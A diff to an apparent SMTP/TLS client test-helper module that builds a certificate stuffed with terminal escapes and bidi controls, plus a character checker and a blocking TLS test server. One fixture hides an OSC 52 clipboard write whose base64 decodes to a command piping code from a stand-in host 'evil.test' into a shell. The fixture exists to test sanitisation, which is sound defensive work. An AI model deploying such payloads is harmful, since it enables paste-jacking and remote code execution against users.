@@ -11,10 +11,19 @@ from __future__ import annotations
 import asyncio
 import base64
 import contextlib
+import datetime as dt
+import ipaddress
 import ssl
 import threading
+import unicodedata
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
+from pathlib import Path
+
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.x509.oid import NameOID
 
 from tests.servers import USERNAME, ServerThread, scripted_server
 
@@ -246,3 +255,141 @@ def stripping_proxy(upstream_port: int) -> Iterator[tuple[int, Wire]]:
 
     with ServerThread(stream_handler=handle) as proxy:
         yield proxy.port, wire
+
+
+# Text a certificate owner controls, aimed at the terminal that shows it: an OSC 52 clipboard
+# write (paste-jacking), a title change, a screen clear, a CSI in its 8-bit form, a right-to-left
+# override and a zero-width space.
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\x07"
+HOSTILE_CN = "mx\u202etset.\u200blive\x1b]0;pwned\x07"
+HOSTILE_ISSUER = "Evil CA\x1b[2J\x9b31m"
+HOSTILE_SAN = f"x{OSC52}.test"
+
+
+def hostile_certificate(directory: Path) -> tuple[ssl.SSLContext, str]:
+    """A server context whose certificate carries terminal escapes and bidi controls in its
+    subject, issuer and SAN (dNSName and otherName), and the PEM of the CA that issued it.
+
+    The certificate is otherwise valid for 127.0.0.1, so with that CA trusted it verifies."""
+    now = dt.datetime.now(dt.UTC)
+    ca_key = ec.generate_private_key(ec.SECP256R1())
+    ca_name = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, HOSTILE_ISSUER)])
+    ca_cert = (
+        x509.CertificateBuilder()
+        .subject_name(ca_name)
+        .issuer_name(ca_name)
+        .public_key(ca_key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now - dt.timedelta(days=1))
+        .not_valid_after(now + dt.timedelta(days=30))
+        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
+        .add_extension(x509.KeyUsage(True, False, False, False, False, True, True, False, False), critical=True)
+        .sign(ca_key, hashes.SHA256())
+    )
+    key = ec.generate_private_key(ec.SECP256R1())
+    sans: list[x509.GeneralName] = [
+        x509.DNSName(HOSTILE_SAN),
+        x509.OtherName(x509.ObjectIdentifier("1.3.6.1.4.1.311.20.2.3"), b"\x0c\x05\x1b[2Jx"),
+        x509.IPAddress(ipaddress.ip_address("127.0.0.1")),
+    ]
+    cert = (
+        x509.CertificateBuilder()
+        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, HOSTILE_CN)]))
+        .issuer_name(ca_name)
+        .public_key(key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now - dt.timedelta(days=1))
+        .not_valid_after(now + dt.timedelta(days=30))
+        .add_extension(x509.SubjectAlternativeName(sans), critical=False)
+        .sign(ca_key, hashes.SHA256())
+    )
+    chain = directory / "hostile-chain.pem"
+    chain.write_bytes(
+        cert.public_bytes(serialization.Encoding.PEM)
+        + key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+    )
+    ca_pem = directory / "hostile-ca.pem"
+    ca_pem.write_bytes(ca_cert.public_bytes(serialization.Encoding.PEM))
+    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    context.load_cert_chain(chain)
+    return context, str(ca_pem)
+
+
+def unsafe_characters(text: str) -> list[str]:
+    """Characters that act on a terminal or hide text (controls except line feed, format
+    characters such as bidi overrides and zero-width spaces, surrogates, line separators)."""
+    return [repr(ch) for ch in text if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
+
+
+@dataclass
+class TlsRefusal:
+    """What a blocking TLS server saw: its handshake errors, and any login that got through."""
+
+    handshake_errors: list[str] = field(default_factory=list)
+    logins: int = 0
+
+
+@contextlib.contextmanager
+def blocking_tls_server(context: ssl.SSLContext, implicit: bool) -> Iterator[tuple[int, TlsRefusal]]:
+    """An SMTP server on plain blocking sockets, as an MTA runs TLS: unlike asyncio's, whose
+    failed server handshake resets the connection, it sends its TLS alert (protocol_version,
+    certificate_required...) before closing, so the client can tell why."""
+    import socket
+
+    seen = TlsRefusal()
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.settimeout(0.2)
+    stop = threading.Event()
+
+    def session(conn: socket.socket) -> None:
+        conn.settimeout(10)
+        stream = conn
+        if not implicit:
+            reader = conn.makefile("rb")
+            conn.sendall(b"220 mx.blocking ESMTP\r\n")
+            while line := reader.readline():
+                verb = line.split(b" ", 1)[0].strip().upper()
+                if verb == b"EHLO":
+                    conn.sendall(b"250-mx.blocking\r\n250 STARTTLS\r\n")
+                elif verb == b"STARTTLS":
+                    conn.sendall(b"220 go ahead\r\n")
+                    break
+                else:
+                    conn.sendall(b"503 STARTTLS first\r\n")
+                    return
+        try:
+            stream = context.wrap_socket(conn, server_side=True)
+        except (ssl.SSLError, OSError) as exc:
+            seen.handshake_errors.append(str(exc))
+            return
+        reader = stream.makefile("rb")
+        if implicit:
+            stream.sendall(b"220 mx.blocking ESMTP\r\n")
+        try:
+            while line := reader.readline():
+                verb = line.split(b" ", 1)[0].strip().upper()
+                if verb == b"AUTH":
+                    seen.logins += 1
+                stream.sendall(b"250-mx.blocking\r\n250 AUTH PLAIN\r\n" if verb == b"EHLO" else b"221 bye\r\n")
+                if verb in (b"AUTH", b"QUIT"):
+                    return
+        except (ssl.SSLError, OSError) as exc:  # TLS 1.3: the client cert is checked after the client's Finished
+            seen.handshake_errors.append(str(exc))
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except TimeoutError:
+                continue
+            with conn:
+                session(conn)
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        yield listener.getsockname()[1], seen
+    finally:
+        stop.set()
+        thread.join(5)
+        listener.close()
